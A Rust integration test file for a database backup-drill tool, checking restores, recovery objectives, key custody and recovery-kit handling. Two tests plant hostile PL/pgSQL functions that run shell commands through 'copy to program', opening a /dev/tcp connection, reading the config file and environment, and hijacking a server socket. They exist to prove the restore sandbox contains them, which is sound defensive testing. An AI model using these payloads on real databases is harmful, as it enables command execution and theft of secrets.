//! Drills of dumps that find all as it was.

use std::collections::BTreeSet;
use std::net::TcpListener;
use std::path::PathBuf;

use drctl_store::SigningKey;
use drctl_tests::cluster::Cluster as _;
use drctl_tests::json_page::documented;
use serde_json::Value;

use crate::common::Shop;

fn milliseconds(run: &Value, phase: &str) -> u64 {
    let phases = run["phases"].as_array().expect("a list");
    let found = phases.iter().find(|one| one["phase"] == phase);
    found.unwrap_or_else(|| panic!("no {phase} in {run}"))["ms"].as_u64().expect("a number")
}

#[test]
fn a_dump_is_restored_proven_and_thrown_away() {
    let shop = Shop::open();
    let place = shop.site.path("space");
    std::fs::create_dir(&place).unwrap();
    drctl_tests::cluster::give_away(&place);
    shop.sql(&format!("create tablespace \"fast 'one'\" location '{}'", place.display()));
    shop.sql("create table placed (a int) tablespace \"fast 'one'\"");
    shop.sql("insert into placed values (1), (2)");
    shop.sql("create role app login; create role staff; grant staff to app with admin option");
    shop.sql("create database other owner app; alter role app set work_mem to '1MB'");
    shop.server
        .psql("other", "create sequence s; select nextval('s'); create table t as select 1 as x");
    shop.sql("select lo_from_bytea(4711, 'large')");
    let backup = shop.back_up()["backup"]["backup"].clone();
    let said = shop.drctl(&["drill", "list"]).ended(0).json();
    assert_eq!(said["drills"], serde_json::json!([]), "{said}");
    let done = shop.drill(0, &[]);
    assert_eq!((&done["verdict"], &done["backup"]), (&"pass".into(), &backup), "{done}");
    let result = &done["result"];
    assert_eq!(result["outcome"], "equal", "{done}");
    // orders, placed, ticks; t.
    assert_eq!((&result["tables"], &result["rows"]), (&4.into(), &2003.into()), "{done}");
    assert!(result["others"].as_u64().unwrap() > 5, "{done}");
    let run = &done["run"];
    assert!(milliseconds(run, "provisioning") > 0 && milliseconds(run, "loading") > 0, "{done}");
    assert!(milliseconds(run, "verifying") > 0, "{done}");
    let counted = ["provisioning", "loading", "verifying"].map(|phase| milliseconds(run, phase));
    assert_eq!(done["restore_ms"], counted.iter().sum::<u64>(), "{done}");
    assert_eq!((&run["point"]["wanted"], &run["cleaned"]), (&"latest".into(), &true.into()));
    assert!(run["on"]["server"].as_str().unwrap().starts_with("15."), "{done}");
    assert!(shop.left().is_empty(), "{:?}", shop.left());
    let all = shop.drctl(&["drill", "list", "shop"]).ended(0).json();
    assert_eq!(all["drills"][0]["drill"], done["drill"], "{all}");
    assert_eq!(all["drills"][0]["signed_by"], all["drills"][0]["host"], "{all}");
    let shown = shop.drctl(&["drill", "show", "shop"]).ended(0).json();
    assert_eq!((&shown["drill"], &shown["run"]), (&done["drill"], run), "{shown}");
    // As the page has them.
    for (object, schema, without) in [
        (&done, "drctl.drill/1", &["names"][..]),
        (&shown, "drctl.drill/1", &["hint", "why"]),
        (&all, "drctl.drills/1", &[]),
    ] {
        let mut fields: BTreeSet<String> = object.as_object().unwrap().keys().cloned().collect();
        fields.remove("schema");
        let mut documented = documented(schema);
        documented.retain(|field| !without.contains(&field.as_str()));
        assert_eq!(fields, documented, "{schema}");
    }
    let text = shop.command(&["drill", "show", "shop"]).output().unwrap().stdout;
    let text = String::from_utf8(text).unwrap();
    assert!(text.contains("PASSED") && text.contains("4 tables with 2 003 rows"), "{text}");
    assert!(shop.told("drill_failed").is_empty());
}

#[test]
fn a_point_is_chosen_and_chosen_again_by_its_number() {
    let shop = Shop::open();
    let ids: Vec<Value> = (0..3).map(|_| shop.back_up()["backup"]["backup"].clone()).collect();
    let oldest = shop.drill(0, &["--point", "oldest"]);
    assert_eq!(
        (&oldest["backup"], &oldest["run"]["point"]["of"]),
        (&ids[0], &3.into()),
        "{oldest}"
    );
    let any = shop.drill(0, &["--point", "random"]);
    let seed = any["run"]["point"]["seed"].as_str().expect("a number").to_owned();
    let again = shop.drill(0, &["--point", "random", "--seed", &seed]);
    assert_eq!(again["backup"], any["backup"], "{again}");
    let chosen = shop.drill(0, &["--point", "random", "--seed", "4"]);
    assert_eq!(chosen["backup"], ids[1], "{chosen}");
    let named = shop.drill(0, &["--backup", ids[1].as_str().unwrap()]);
    assert_eq!((&named["backup"], &named["run"]["lost_ms"]), (&ids[1], &Value::Null), "{named}");
    let said = shop.drctl(&["drill", "run", "shop", "--seed", "4"]).failed(2, "usage");
    assert!(said.contains("--point random"), "{said}");
    let said = shop.drctl(&["drill", "show", "shop", "19"]).failed(5, "no_backup");
    assert!(said.contains("`19`"), "{said}");
}

#[test]
fn promises_are_measured() {
    let shop = Shop::open();
    shop.back_up_days_ago(3);
    // The policy asks for an RPO of 26 hours, and an RTO of two.
    let done = shop.drill(11, &[]);
    assert_eq!(done["verdict"], "fail_rpo", "{done}");
    let lost = done["run"]["lost_ms"].as_u64().unwrap();
    assert!(lost > 71 * 3_600_000, "{done}");
    assert_eq!(done["run"]["objectives"]["rto_ms"], 7_200_000, "{done}");
    let _ = shop.back_up();
    assert_eq!(shop.drill(0, &[])["verdict"], "pass");
}

#[test]
fn what_a_dump_runs_reaches_neither_network_nor_host() {
    let shop = Shop::open();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let marker = shop.site.path("marker");
    // It runs while rows are loaded, as whoever loads them; what it can write is what is thrown away.
    shop.sql(&format!(
        "create role clerk; create table trap (a int); insert into trap values (1);
         create function evil(int) returns bool language plpgsql as $f$ begin
             if current_setting('is_superuser') = 'on' then
                 copy (select 1) to program 'bash -c \"echo > /dev/tcp/127.0.0.1/{port}\" 2>> ran; touch {} 2>> ran; cat {} >> ran 2>&1; env >> ran; echo it ran >> ran';
             end if;
             return true; end $f$;
         alter table trap owner to clerk; alter function evil owner to clerk;
         set role clerk; alter table trap add check (evil(a))",
        marker.display(),
        shop.site.config().display(),
    ));
    let _ = shop.back_up();
    let seen = keeps_what_ran(&shop);
    let done = shop.drill(0, &[]);
    assert_eq!(done["verdict"], "pass", "{done}");
    assert!(done["run"]["deviations"].to_string().contains("ran as a superuser"), "{done}");
    let seen = std::fs::read_to_string(&seen).unwrap_or_default();
    assert!(seen.contains("it ran"), "{seen}");
    assert!(!seen.contains("[repository]") && !seen.contains("DRCTL"), "{seen}");
    assert!(!marker.exists());
    assert!(listener.accept().is_err(), "somebody came");
}

/// Keeps what the dump wrote into `ran` of the scratch server's data, before all goes: the file that it is kept in.
fn keeps_what_ran(shop: &Shop) -> PathBuf {
    let (seen, from) = (shop.site.path("seen"), shop.scratch());
    shop.with_script(
        "pg_restore",
        &format!(
            "\"$REAL\" \"$@\"; ended=$?; cat {}/drill-*/restored/data/ran >> {} 2>/dev/null; exit $ended",
            from.display(),
            seen.display()
        ),
    );
    seen
}

#[test]
fn what_a_dump_runs_leads_to_no_other_server() {
    let shop = Shop::open();
    // A role that the living server lets in, and a database that it does not have any more.
    shop.sql("create role drctl_scratch superuser login");
    let living = shop.server.socket_dir().join(format!(".s.PGSQL.{}", shop.server.port()));
    shop.sql(&format!(
        "create role clerk; create table trap (a int); insert into trap values (1);
         create function evil(int) returns bool language plpgsql as $f$ begin
             if current_setting('is_superuser') = 'on' then
                 execute format('copy (select 1) to program %L', format(
                     'ln -sfn %s %2$s/x && mv -f %2$s/x %2$s/.s.PGSQL.5432; echo done >> ran',
                     '{}', current_setting('unix_socket_directories')));
             end if;
             return true; end $f$;
         alter table trap owner to clerk; alter function evil owner to clerk;
         set role clerk; alter table trap add check (evil(a))",
        living.display()
    ));
    shop.sql("create database zz");
    let _ = shop.back_up();
    shop.sql("drop database zz");
    let seen = keeps_what_ran(&shop);
    let done = shop.drill(0, &[]);
    assert_eq!(done["verdict"], "pass", "{done}");
    assert!(std::fs::read_to_string(&seen).unwrap_or_default().contains("done"), "it ran");
    assert_eq!(shop.sql("select count(*) from pg_database where datname = 'zz'"), "0");
}

#[test]
fn a_backup_without_roles_is_restored_without_owners() {
    let shop = Shop::open();
    shop.site.source("globals = false");
    shop.sql(
        "create role clerk; alter table orders owner to clerk; grant select on orders to clerk",
    );
    let _ = shop.back_up();
    let done = shop.drill(0, &[]);
    assert_eq!(
        (&done["verdict"], &done["result"]["rows"]),
        (&"pass".into(), &2000.into()),
        "{done}"
    );
    assert!(done["run"]["deviations"].to_string().contains("holds no roles"), "{done}");
}

#[test]
fn of_which_recipient_the_identity_was_proven_is_told() {
    let shop = Shop::open();
    let _ = shop.back_up();
    let custody = |exit: i32| shop.drctl(&["keys", "custody"]).ended(exit).json();
    let proven = |custody: &Value| -> Vec<bool> {
        let all = custody["recipients"].as_array().expect("a list").iter();
        all.map(|one| one["proven"].is_string()).collect()
    };
    let before = custody(3);
    assert_eq!(proven(&before), [false, false], "{before}");
    let done = shop.drill(0, &[]);
    let opened = &done["run"]["opened_by"];
    assert_eq!(opened.as_array().map(Vec::len), Some(1), "{done}");
    // The identity of the recovery kit was not at hand.
    let after = custody(3);
    let one = after["recipients"].as_array().unwrap().iter().find(|one| one["fresh"] == true);
    let one = one.unwrap_or_else(|| panic!("{after}"));
    assert_eq!((&one["recipient"], &one["sources"][0]["drill"]), (&opened[0], &done["drill"]));
    assert_eq!(proven(&after).iter().filter(|proven| **proven).count(), 1, "{after}");
    // One that failed opened nothing that counts.
    let kit = shop.site.path("kit.txt");
    let other = kit.display().to_string();
    let failed = shop.drill(0, &["--identity", &other]);
    assert_eq!(failed["run"]["opened_by"].as_array().map(Vec::len), Some(1), "{failed}");
    let all = custody(0);
    assert_eq!(proven(&all), [true, true], "{all}");
}

#[test]
fn several_sources_are_tried_at_once_and_measured_together() {
    let shop = Shop::open();
    let config = std::fs::read_to_string(shop.site.config()).unwrap();
    let at = config.find("[sources.shop]").expect("the source");
    let own = config[at..].split("\n[").next().unwrap_or_default();
    let other = own.replace("[sources.shop]", "[sources.bank]");
    std::fs::write(shop.site.config(), format!("{config}\n{other}")).unwrap();
    shop.site.replace("sources = [\"shop\"]", "sources = [\"shop\", \"bank\"]");
    let _ = shop.drctl(&["backup", "shop"]).ended(0);
    let _ = shop.drctl(&["backup", "bank"]).ended(0);
    let run = |exit: i32| shop.drctl(&["drill", "run", "shop", "bank"]).ended(exit).json();
    let done = run(0);
    let members: BTreeSet<String> = done.as_object().unwrap().keys().cloned().collect();
    let told = documented("drctl.drill-together/1").into_iter().chain(["schema".to_owned()]);
    assert_eq!(members, told.collect());
    let ms = |drill: &Value| drill["restore_ms"].as_u64().expect("a time");
    let each: Vec<&Value> =
        done["sources"].as_array().unwrap().iter().map(|one| &one["drill"]).collect();
    // All at once: the last ends before both could have, one after the other.
    let (longest, sum) =
        (each.iter().map(|one| ms(one)).max().unwrap(), each.iter().map(|one| ms(one)).sum());
    assert!(ms(&done) >= longest && ms(&done) < sum, "{done}");
    for drill in &each {
        let together = &drill["run"]["together"];
        assert_eq!((&together["id"], &together["sources"]), (&done["together"], &2.into()));
    }
    assert_eq!(done["forecast"]["drills"], 1, "{done}");
    assert_eq!(run(0)["forecast"]["drills"], 2);
    // Alone nothing was measured by them.
    let report = shop.drctl(&["report", "--period", "1d"]).ended(0).json();
    assert_eq!(report["sources"][0]["drills"]["forecast"], Value::Null, "{report}");
    // One that fails makes all of it fail, and is no time.
    crate::common::damage(&shop, &shop.largest_of(each[1]["backup"].as_str().unwrap()));
    let failed = run(4);
    assert_eq!(
        (&failed["restore_ms"], &failed["sources"][0]["drill"]["verdict"]),
        (&Value::Null, &"pass".into())
    );
    let _ = shop.drctl(&["drill", "run", "shop", "shop"]).failed(2, "usage");
}

#[test]
fn the_recovery_kit_and_the_bucket_are_enough_or_it_fails() {
    let kit_of = |shop: &Shop| shop.site.path("kit.txt").display().to_string();
    for shop in [Shop::open(), Shop::cluster()] {
        let _ = shop.back_up();
        let kit = kit_of(&shop);
        // Neither its catalog nor its own identity is needed.
        std::fs::rename(shop.site.identity(), shop.site.path("taken.txt")).unwrap();
        std::fs::rename(shop.site.path("state"), shop.site.path("away")).unwrap();
        let done = shop.drill(0, &["--kit", &kit]);
        assert_eq!(
            (&done["verdict"], &done["run"]["by_kit"]),
            (&"pass".into(), &true.into()),
            "{done}"
        );
        assert_eq!(done["run"]["opened_by"].as_array().map(Vec::len), Some(1), "{done}");
        assert!(shop.left().is_empty(), "{:?}", shop.left());
    }
    let shop = Shop::open();
    let _ = shop.back_up();
    let kit = kit_of(&shop);
    let _ =
        shop.drctl(&["drill", "run", "shop", "--kit", &kit, "--identity", &kit]).failed(2, "usage");
    // The line is torn off.
    let text = std::fs::read_to_string(&kit).unwrap();
    let torn: Vec<&str> = text.lines().filter(|line| !line.starts_with("AGE-SECRET")).collect();
    std::fs::write(&kit, torn.join("\n")).unwrap();
    let done = shop.drill(4, &["--kit", &kit]);
    assert_eq!(done["verdict"], "fail_data", "{done}");
    assert!(done["why"].to_string().contains("the recovery kit is not enough"), "{done}");
    // What it trusts signed nothing here.
    let other = SigningKey::generate().verifying_key().to_string();
    let mut parts = text.split("ed25519:");
    let first = parts.next().expect("a beginning").to_owned();
    let length = other.len() - "ed25519:".len();
    let wrong = parts.fold(first, |all, part| all + &other + &part[length..]);
    std::fs::write(&kit, wrong).unwrap();
    let done = shop.drill(4, &["--kit", &kit]);
    assert_eq!(done["verdict"], "fail_data", "{done}");
}
